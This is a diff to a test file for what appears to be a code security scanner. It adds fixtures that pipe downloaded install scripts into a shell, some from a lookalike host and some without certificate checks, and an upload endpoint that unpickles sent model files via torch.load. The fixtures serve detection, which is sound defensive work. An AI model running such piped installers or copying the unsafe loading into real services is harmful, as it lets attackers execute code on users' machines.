@@ -65,6 +65,18 @@ SQL = (
 LOG = "import logging, os\nlog = logging.getLogger('a')\n"
 
 CASES = {
+    "an installer, as its vendor has it": (
+        {"a.py": "import os\nos.system('wget -qO- https://astral.sh/uv/i.sh | sudo -E sh')\n"},
+        "piped-to-shell", "medium",
+    ),
+    "an installer of a host that begins alike": (
+        {"a.py": "import os\nos.system('curl -sSf https://astral.sh.shop.net/i.sh | sh')\n"},
+        "piped-to-shell", "high",
+    ),
+    "an installer without the certificate": (
+        {"a.py": "import os\nos.system('curl -sSfk https://astral.sh/uv/install.sh | sh')\n"},
+        "piped-to-shell", "high",
+    ),
     "weights over plain HTTP": (
         {"a.py": "URL = 'http://models.shop.net/a.bin'\n"}, "weights-over-http", "high",
     ),
@@ -74,6 +86,17 @@ CASES = {
     "digests beside it": (
         {"a.py": f"A = {{'url': 'http://models.shop.net/a.bin', 'md5': '{'0a' * 16}'}}\n"},
         "weights-over-http", "medium",
+    ),
+    "code of a repository": ({"a.py": MODEL}, "trust-remote-code", "high"),
+    "code at a full commit": (
+        {"a.py": MODEL.replace("True)", f"True, revision='{'0a' * 20}')")}, "trust-remote-code",
+        "medium",
+    ),
+    "code at a branch": (
+        {"a.py": MODEL.replace("True)", "True, revision='main')")}, "trust-remote-code", "high",
+    ),
+    "code of a folder": (
+        {"a.py": MODEL.replace("(n,", "('./out/model',")}, "trust-remote-code", "medium",
     ),
     "no cookie is seen": ({"app.py": CORS}, "cors-everybody", "medium"),
     "a cookie in the same file": ({"app.py": CORS + COOKIE}, "cors-everybody", "high"),
@@ -143,7 +166,7 @@ CASES = {
         "yaml-load", "high",
     ),
     "an index of one's own": (
-        {"a.py": INDEX.format("config.index")}, "vector-store-pickle", "medium",
+        {"a.py": INDEX.format("config.index")}, "vector-store-pickle", "medium"
     ),
     "an index of a stranger": (
         {"a.py": INDEX.format("request.args['index']")}, "vector-store-pickle", "high",
@@ -237,9 +260,19 @@ CASES = {
          "gr.Interface(f, 'text', 'text').launch()\n"},
         "code-injection", "critical",
     ),
-    "an installer at a fixed address": (
-        {"a.py": "import os\nos.system('curl -LsSf https://a.net/install.sh | sh')\n"},
+    "a model that is sent": (
+        {"a.py": "import torch\nfrom fastapi import FastAPI, UploadFile\napp = FastAPI()\n"
+         "@app.post('/')\ndef put(sent: UploadFile):\n"
+         "    return torch.load(sent.file, weights_only=False)\n"},
+        "pickle-untrusted", "critical",
+    ),
+    "an installer that its vendor names": (
+        {"a.py": "import os\nos.system('curl -LsSf https://astral.sh/uv/install.sh | sh')\n"},
         "piped-to-shell", "medium",
+    ),
+    "an installer at an unknown address": (
+        {"a.py": "import os\nos.system('curl -LsSf https://a.net/install.sh | sh')\n"},
+        "piped-to-shell", "high",
     ),
     "an installer at any address": (
         {"a.py": "import os\nos.system(f'curl -LsSf https://{host}/install.sh | sh')\n"},
